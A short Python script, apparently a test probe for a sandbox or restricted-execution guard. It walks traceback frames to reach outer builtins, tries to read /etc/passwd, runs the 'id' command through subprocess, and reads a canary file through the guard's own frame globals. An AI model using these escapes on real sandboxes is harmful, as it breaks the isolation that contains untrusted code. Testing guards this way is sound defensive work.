def attempt(name, act):
    try:
        print(f"{name}: {act()!r}")
    except BaseException as error:
        print(f"{name}: {type(error).__name__} {getattr(error, 'code', '')}".rstrip())


def frames_of(error):
    frame = error.__traceback__.tb_frame
    while frame:
        yield frame
        frame = frame.f_back


try:
    1 / 0
except ZeroDivisionError as error:
    reached = list(frames_of(error))

outermost = reached[-1]
attempt("outermost open", lambda: outermost.f_builtins["open"]("/etc/passwd").read())
attempt("outermost import", lambda: outermost.f_builtins["__import__"]("subprocess").check_output(["id"]))

# The denial's own traceback leads into the code that asked the guard.
try:
    open("/etc/passwd")
except OSError as error:
    inner = error.__traceback__
    while inner.tb_next:
        inner = inner.tb_next
    scope = inner.tb_frame.f_globals
    attempt("io of the innermost", lambda: scope.get("open", open)("{{root}}/canary.txt").read())
    print("chained:", error.__cause__ is None, error.__context__ is None)
